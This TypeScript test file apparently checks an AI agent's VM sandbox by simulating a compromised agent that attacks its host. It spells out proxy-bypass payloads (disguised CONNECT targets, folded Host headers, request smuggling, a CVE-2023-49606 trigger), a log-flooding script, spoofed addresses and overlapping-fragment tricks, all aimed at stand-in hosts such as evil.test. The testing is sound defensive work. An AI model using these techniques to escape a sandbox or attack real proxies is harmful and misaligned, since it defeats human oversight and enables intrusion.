import * as fs from "fs";
import * as path from "path";
import { HOST_PATHS, hostProfile } from "../../render/hostProfile";
import { renderNftables } from "../../render/nftables";
import { homeConfig } from "../fixtures/homeConfig";
import { quote, sh, shStatus } from "../harness/sh";
import { OVERLAPPING_FRAGMENTS, UDP_SEND } from "./attacks/servers";
import {
  AttackWorld,
  INTERNET,
  INTERNET_V6_HOST,
  LAN,
  WitnessEvent,
  buildAttackWorld,
  statusOf,
} from "./attacks/world";

// A compromised agent with root in its VM attacks the home stack's host as rendered: the
// firewall's and the proxy's create scripts run unchanged on a private host, tinyproxy runs as
// its unit runs it, and the host's resolver is a witness that logs every question it gets (so
// a name the proxy resolved on the VM's behalf shows, even if nothing else does). The VM is a
// namespace on the bridge that sends whatever bytes and packets it likes. Each test asserts the
// sandbox holds; the last block loosens the rendered config and shows the same probes then see
// the leak. Every address is a namespace's.
jest.setTimeout(60_000);

const config = homeConfig();
const { hostAddress, vmAddress, bridge } = config.network;
const wg = config.wireguard;
const ALLOWED = `${INTERNET.allowed}:443`;
let world: AttackWorld;

const CONNECT = (target: string): string => `CONNECT ${target} HTTP/1.1\r\n\r\n`;

/** What reached the attacker: its server, or any question naming it at the resolver. */
function leaks(events: WitnessEvent[]): WitnessEvent[] {
  return events.filter(
    (event) =>
      event.to.startsWith(INTERNET.evil) ||
      (event.kind === "dns" && /evil|attacker/i.test(event.name ?? "")),
  );
}

function dnsQuestions(): string[] {
  return world
    .events()
    .filter((event) => event.kind === "dns")
    .map((event) => event.name ?? "");
}

function reachedAllowed(): WitnessEvent[] {
  return world.events().filter((event) => event.kind === "tcp" && event.to === ALLOWED);
}

/** Which of `addresses` answer the VM's ARP requests on the bridge (asked all at once). */
function arpAnswering(addresses: string[]): string[] {
  const ask = addresses.map(
    (address) =>
      `(busybox arping -I eth0 -c 1 -w 1 ${address} > /dev/null 2>&1 && echo ${address}) &`,
  );
  const out = sh(`${world.fromVm} bash -c ${quote(`${ask.join(" ")} wait`)}`);
  return addresses.filter((address) => out.split("\n").includes(address));
}

function udpFromVm(sourcePort: number, address: string, port: number, payload: string): void {
  world.python(world.vm, UDP_SEND, [String(sourcePort), address, String(port), payload]);
}

/** Lets datagrams in flight reach their witness. */
function settle(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 300));
}

/** Datagrams a witness got at `where` ("addr:port"), after letting them arrive. */
async function datagramsTo(where: string): Promise<string[]> {
  await settle();
  return world
    .events()
    .filter((event) => event.kind === "udp" && event.to === where)
    .map((event) => event.data ?? "");
}

beforeAll(async () => {
  world = await buildAttackWorld(config, String(process.pid));
});

afterAll(() => world?.close());

beforeEach(() => world.forget());

describe("a compromised VM against the proxy", () => {
  it("gets 403 for every CONNECT trick naming a host off the allowlist, and none is resolved", () => {
    const tricks = [
      "api.anthropic.com.:443",
      "api%2eanthropic.com:443",
      "api.anthropic.com.evil.test:443",
      "xanthropic.com:443",
      "anthropic.com:443",
      "api.anthropic.com:443@evil.test:443",
      "api.telegram.org@evil.test:443",
      `${INTERNET.evil}:443`,
      "[::ffff:203.0.113.66]:443",
      "0xcb007142:443",
      "evil.test\tapi.anthropic.com:443",
      "api.anthropic.com\rx.evil.test:443",
      `${"a".repeat(63)}.${"b".repeat(63)}.evil.test:443`,
      "tinyproxy.stats:443",
    ];
    const answers = tricks.map((target) => statusOf(world.askProxy(CONNECT(target))));
    expect(answers).toEqual(tricks.map(() => 403));
    expect(dnsQuestions()).toEqual([]);
    expect(world.events()).toEqual([]);
  });

  it("sends userinfo, brackets, a path and capitals on an allowed name nowhere else", () => {
    const targets = [
      "evil.test@api.anthropic.com:443",
      "[api.anthropic.com]:443",
      "api.anthropic.com:443/evil.test",
      "API.ANTHROPIC.COM:443",
    ];
    const answers = targets.map((target) =>
      world.askProxy([{ send: CONNECT(target), until: "\r\n\r\n" }, { send: "hello\r\n" }]),
    );
    // Refused outright, or carried to the allowed host: never anywhere else.
    const passed = answers.filter((answer) => statusOf(answer) === 200);
    expect(answers.every((answer) => [200, 403].includes(statusOf(answer)))).toBe(true);
    expect(statusOf(answers[3]!)).toBe(200);
    expect(passed.every((answer) => answer.includes(`reached ${ALLOWED}`))).toBe(true);
    expect(reachedAllowed()).toHaveLength(passed.length);
    expect(leaks(world.events())).toEqual([]);
  });

  it("judges plain HTTP by the absolute URI's host and sends its own Host header", () => {
    const toEvil = "GET http://evil.test:443/ HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n";
    expect(statusOf(world.askProxy(toEvil))).toBe(403);
    const fronted = "GET http://api.anthropic.com:443/ HTTP/1.1\r\nHost: evil.test\r\n\r\n";
    expect(world.askProxy(fronted)).toContain(`reached ${ALLOWED}`);
    const [seen] = reachedAllowed();
    expect(seen?.data).toContain("Host: api.anthropic.com\r\n");
    expect(seen?.data).not.toContain("evil.test");
    expect(leaks(world.events())).toEqual([]);
  });

  it("refuses relative requests (transparent mode) for other hosts, no host or the stats page", () => {
    expect(statusOf(world.askProxy("GET / HTTP/1.0\r\n\r\n"))).toBe(400);
    expect(statusOf(world.askProxy("GET / HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"))).toBe(403);
    // The proxy's own address is refused before the filter runs ("You tried to connect to the
    // machine the proxy is running on").
    expect(statusOf(world.askProxy(`GET / HTTP/1.1\r\nHost: ${hostAddress}\r\n\r\n`))).toBe(400);
    expect(statusOf(world.askProxy("GET http://tinyproxy.stats/ HTTP/1.1\r\n\r\n"))).toBe(403);
    expect(statusOf(world.askProxy("GET ftp://evil.test/ HTTP/1.1\r\n\r\n"))).toBe(400);
    expect(world.events()).toEqual([]);
  });

  it("keeps pipelined, smuggled and tunnelled requests on the allowed host's connection", () => {
    const pipelined =
      "GET http://api.anthropic.com:443/ HTTP/1.1\r\nContent-Length: 0\r\n\r\n" +
      "GET http://evil.test:443/ HTTP/1.1\r\nHost: evil.test\r\n\r\n";
    const smuggled =
      "POST http://api.anthropic.com:443/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" +
      "Content-Length: 4\r\n\r\n0\r\n\r\n" +
      CONNECT("evil.test:443");
    world.askProxy(pipelined);
    world.askProxy(smuggled);
    world.askProxy([
      { send: CONNECT("api.anthropic.com:443"), until: "\r\n\r\n" },
      { send: CONNECT("evil.test:443") + "GET http://evil.test/ HTTP/1.1\r\n\r\n" },
    ]);
    const seen = reachedAllowed();
    expect(seen).toHaveLength(3);
    expect(seen.every((event) => event.data?.includes("evil.test"))).toBe(true);
    expect(leaks(world.events())).toEqual([]);
  });

  it("lets plain HTTP to an allowed name reach only the proxy user's ports (443, 53)", () => {
    expect(statusOf(world.askProxy("GET http://api.anthropic.com:22/ HTTP/1.1\r\n\r\n"))).toBe(500);
    expect(statusOf(world.askProxy("GET http://api.anthropic.com/ HTTP/1.1\r\n\r\n"))).toBe(500);
    expect(world.events()).toEqual([]);
  });

  it("never resolves a Host header folded onto a second line, so the folded name leaks nowhere", () => {
    // Bare LF, then a continuation line: tinyproxy joins them into one Host value.
    const folded = "GET / HTTP/1.1\r\nHost: api.anthropic.com\n x.attacker.evil.test:443\r\n\r\n";
    world.askProxy(folded);
    expect(leaks(world.events())).toEqual([]);
    expect(dnsQuestions()).toEqual([]);
  });

  // tinyproxy compiles filters with REG_NEWLINE, so `^` and `$` also match at a newline, and it
  // joins a folded header's lines: a filter on the host name alone let a Host header
  // "api.anthropic.com\n x.attacker.example" through to getaddrinfo. The rendered filter
  // matches the whole request target (FilterURLs), so a name split across lines never matches.
  test("refuses a Host header folded onto a second line in the allowlist filter", () => {
    const folded = "GET / HTTP/1.1\r\nHost: api.anthropic.com\n x.attacker.evil.test:443\r\n\r\n";
    expect(statusOf(world.askProxy(folded))).toBe(403);
  });

  it("keeps serving after the CVE-2023-49606 header and a 100 KB request line", () => {
    const uaf = "GET / HTTP/1.1\r\nConnection: Connection\r\nHost: api.anthropic.com:443\r\n\r\n";
    world.askProxy(uaf);
    world.askProxy(CONNECT(`${"a.".repeat(50_000)}evil.test:443`));
    expect(statusOf(world.askProxy(CONNECT("api.anthropic.com:443")))).toBe(200);
    expect(leaks(world.events())).toEqual([]);
  });

  // Every refusal is a log line of up to 800 bytes that tinyproxy fsyncs; unlimited, the VM
  // grew the log by ~700 KB/s here. The firewall limits new connections to the proxy port.
  test("cannot grow the proxy log faster than 100 KB/s by asking for denied names", () => {
    const before = Number(world.host.exec(`stat -c %s ${HOST_PATHS.proxyLog}`));
    world.python(world.vm, FLOOD, [hostAddress, String(config.proxy.port), "2"]);
    const after = Number(world.host.exec(`stat -c %s ${HOST_PATHS.proxyLog}`));
    expect(after - before).toBeLessThan(200_000);
  });
});

/** Asks the proxy for long denied names from 6 threads for SECONDS: FLOOD ADDR PORT SECONDS. */
const FLOOD = String.raw`
import socket, sys, threading, time
addr, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
request = ("CONNECT %sevil.test:443 HTTP/1.1\r\n\r\n" % (("a" * 60 + ".") * 13)).encode()
end = time.time() + seconds
def ask():
    while time.time() < end:
        try:
            s = socket.create_connection((addr, port), timeout=1)
            s.sendall(request)
            while s.recv(65536): pass
            s.close()
        except OSError:
            pass
threads = [threading.Thread(target=ask) for _ in range(6)]
for t in threads: t.start()
for t in threads: t.join()
`;

describe("a compromised VM against the host's network", () => {
  it("reaches nothing on the host but the proxy, on any of the host's addresses", () => {
    const targets = [
      `${hostAddress}:2222`,
      `${LAN.host}:2222`,
      `${INTERNET.host}:2222`,
      `${wg.address}:2222`,
      `${wg.address}:${wg.controlPort}`,
      `${LAN.host}:${config.proxy.port}`,
    ];
    const seen = world.probeFromVm(targets);
    expect(targets.filter((target) => seen[target] !== "")).toEqual([]);
    expect(world.events()).toEqual([]);
  });

  it("reaches no LAN or internet host, and not the host's resolver, directly", async () => {
    const targets = [`${LAN.server}:22`, `${LAN.server}:443`, `${INTERNET.evil}:443`, ALLOWED];
    const seen = world.probeFromVm(targets);
    expect(targets.filter((target) => seen[target] !== "")).toEqual([]);
    udpFromVm(5353, INTERNET.dns, 53, "a question for the host's resolver");
    udpFromVm(5353, INTERNET.evil, 9999, "out");
    udpFromVm(5353, LAN.server, 53, "out");
    await settle();
    expect(world.events()).toEqual([]);
  });

  it("cannot reach the host's loopback services by routing 127.0.0.1 over the bridge", () => {
    const vm = world.fromVm;
    sh(
      `${vm} sysctl -q -w net.ipv4.conf.eth0.route_localnet=1 &&` +
        ` ${vm} ip route del local 127.0.0.1 dev lo table local &&` +
        ` ${vm} ip route add 127.0.0.1/32 via ${hostAddress} dev eth0`,
    );
    try {
      expect(world.probeFromVm(["127.0.0.1:2223"])).toEqual({ "127.0.0.1:2223": "" });
    } finally {
      sh(
        `${vm} ip route del 127.0.0.1/32 && ${vm} ip route add local 127.0.0.1 dev lo table local` +
          ` scope host src 127.0.0.1`,
      );
    }
    expect(world.events()).toEqual([]);
  });

  it("gets no proxy and no host service from another or a spoofed source address", () => {
    const vm = world.fromVm;
    const cidr = config.network.cidr;
    const prefix = config.network.prefix;
    const spoofs = [`10.77.0.11/${prefix}`, `${LAN.server}/32`];
    for (const spoof of spoofs) {
      const source = spoof.split("/")[0]!;
      sh(
        `${vm} ip addr add ${spoof} dev eth0 && ${vm} ip route replace ${cidr} dev eth0 src ${source}`,
      );
      try {
        expect(statusOf(world.askProxy(CONNECT("api.anthropic.com:443"), 1))).toBe(0);
        expect(world.probeFromVm([`${hostAddress}:2222`])).toEqual({ [`${hostAddress}:2222`]: "" });
      } finally {
        sh(
          `${vm} ip route replace ${cidr} dev eth0 src ${vmAddress} && ${vm} ip addr del ${spoof} dev eth0`,
        );
      }
    }
    expect(statusOf(world.askProxy(CONNECT("api.anthropic.com:443")))).toBe(200);
  });

  // Linux answers ARP for any of its addresses on any interface (arp_ignore=0), which would let
  // the VM probe the host's LAN, WireGuard and uplink addresses; the bridge has arp_ignore=1.
  test("learns none of the host's other addresses over ARP", () => {
    expect(arpAnswering([hostAddress, LAN.host, wg.address, INTERNET.host])).toEqual([hostAddress]);
  });

  it("gets no ARP answer for addresses the host does not have (the ARP probe can fail)", () => {
    expect(arpAnswering([LAN.server, INTERNET.evil, "10.77.0.99"])).toEqual([]);
  });

  // A DHCP rule on ports alone would let the VM reach a UDP service on port 67 of the host's LAN
  // or WireGuard address; the rule names the broadcast and bridge addresses.
  test("sends DHCP only to the bridge address or broadcast", async () => {
    udpFromVm(68, hostAddress, 67, "dhcp-bridge");
    udpFromVm(68, LAN.host, 67, "dhcp-lan");
    udpFromVm(68, wg.address, 67, "dhcp-wg");
    expect(await datagramsTo(`${hostAddress}:67`)).toEqual(["dhcp-bridge"]);
    expect(await datagramsTo(`${LAN.host}:67`)).toEqual([]);
    expect(await datagramsTo(`${wg.address}:67`)).toEqual([]);
  });

  it("cannot turn a DHCP datagram into another port with overlapping fragments", async () => {
    const send = (port: number, payload: string): string =>
      world.python(world.vm, OVERLAPPING_FRAGMENTS, [
        vmAddress,
        hostAddress,
        String(port),
        payload,
      ]);
    send(67, "whole-dhcp");
    send(9999, "overlap");
    // The control: fragments the rule accepts do arrive, reassembled.
    expect(await datagramsTo(`${hostAddress}:67`)).toContain("whole-dhcp......");
    expect(await datagramsTo("0.0.0.0:9999")).toEqual([]);
  });

  it("gets nothing over IPv6, to the bridge port's link-local address or the host's uplink", () => {
    const vm = world.fromVm;
    const port = world.host.exec(`ip -6 -o addr show dev vm-h scope link`).split(/\s+/)[3]!;
    const linkLocal = port.split("/")[0]!;
    const mac = world.host.exec(`cat /sys/class/net/${bridge}/address`).trim();
    sh(
      `${vm} ip -6 route add ${INTERNET_V6_HOST}/128 dev eth0 &&` +
        ` ${vm} ip -6 neigh replace ${INTERNET_V6_HOST} lladdr ${mac} dev eth0`,
    );
    const targets = [`[${linkLocal}%eth0]:2224`, `[${INTERNET_V6_HOST}]:2224`];
    const seen = world.probeFromVm(targets);
    expect(targets.filter((target) => seen[target] !== "")).toEqual([]);
    expect(world.events()).toEqual([]);
  });

  it("gets no answer to ICMP, broadcast or multicast", async () => {
    expect(shStatus(`${world.fromVm} busybox ping -c 1 -W 1 ${hostAddress}`).code).not.toBe(0);
    udpFromVm(5353, "10.77.0.255", 9999, "subnet-broadcast");
    udpFromVm(5353, "255.255.255.255", 9999, "broadcast");
    sh(`${world.fromVm} ip route add 224.0.0.0/4 dev eth0`);
    udpFromVm(5353, "224.0.0.1", 9999, "multicast");
    expect(await datagramsTo("0.0.0.0:9999")).toEqual([]);
  });
});

/**
 * Loads a loosened copy of the rendered ruleset, runs `probe`, then reloads the ruleset as
 * rendered: proof that a probe above would see the leak the rendered rule prevents.
 */
async function withLoosenedFirewall(
  loosen: (rules: string) => string,
  probe: () => void | Promise<void>,
): Promise<void> {
  const rendered = renderNftables(config, hostProfile(config.hostFamily));
  const loosened = loosen(rendered);
  expect(loosened).not.toBe(rendered);
  const file = path.join(world.host.root, "loosened.nft");
  fs.writeFileSync(file, loosened);
  world.host.exec(`nft -f ${file}`);
  try {
    await probe();
  } finally {
    world.host.exec(`nft -f ${HOST_PATHS.nftables}`);
  }
}

describe("the same probes against a loosened sandbox (they can fail)", () => {
  it("see a name resolved and reached when the filter is not anchored", () => {
    const filter = world.host.exec(`cat ${HOST_PATHS.tinyproxyFilter}`);
    const pid = world.host.exec(`cat ${HOST_PATHS.proxyPid}`).trim();
    const loose = filter.replace(/\^|\$/g, "");
    sh(`${world.host.enter} bash -c 'cat > ${HOST_PATHS.tinyproxyFilter}'`, { input: loose });
    world.host.exec(`kill -USR1 ${pid}`);
    try {
      // Unanchored, `api\.telegram\.org:443` is found inside a longer name.
      expect(statusOf(world.askProxy(CONNECT("xapi.telegram.org:443")))).toBe(200);
      expect(dnsQuestions()).toContain("xapi.telegram.org");
      expect(leaks(world.events()).length).toBeGreaterThan(0);
    } finally {
      sh(`${world.host.enter} bash -c 'cat > ${HOST_PATHS.tinyproxyFilter}'`, { input: filter });
      world.host.exec(`kill -USR1 ${pid}`);
    }
  });

  it("see the host's services when the input chain does not end in a drop", async () => {
    await withLoosenedFirewall(
      (rules) => rules.replace(/(chain from_sandbox \{[\s\S]*?)\n {4}counter drop\n/, "$1\n"),
      () => {
        const seen = world.probeFromVm([`${hostAddress}:2222`, `${wg.address}:${wg.controlPort}`]);
        expect(seen[`${hostAddress}:2222`]).toContain("200 OK");
      },
    );
  });

  it("see the internet directly when the forward chain lets the bridge through", async () => {
    world.host.exec(`sysctl -q -w net.ipv4.conf.${bridge}.forwarding=1`);
    try {
      await withLoosenedFirewall(
        (rules) => rules.replace(/ {4}[io]ifname "[^"]+" counter drop\n/g, ""),
        () => {
          expect(world.probeFromVm([`${INTERNET.evil}:443`])[`${INTERNET.evil}:443`]).toContain(
            "200 OK",
          );
        },
      );
    } finally {
      world.host.exec(`sysctl -q -w net.ipv4.conf.${bridge}.forwarding=0`);
    }
  });

  it("see plain HTTP reach another port when the proxy user's egress is not limited", async () => {
    await withLoosenedFirewall(
      (rules) => rules.replace(/ {4}# Reject rather than drop[^\n]*\n {4}counter reject\n/, ""),
      () => {
        const answer = world.askProxy("GET http://api.anthropic.com:22/ HTTP/1.1\r\n\r\n");
        expect(answer).toContain(`reached ${INTERNET.allowed}:22`);
      },
    );
  });
});
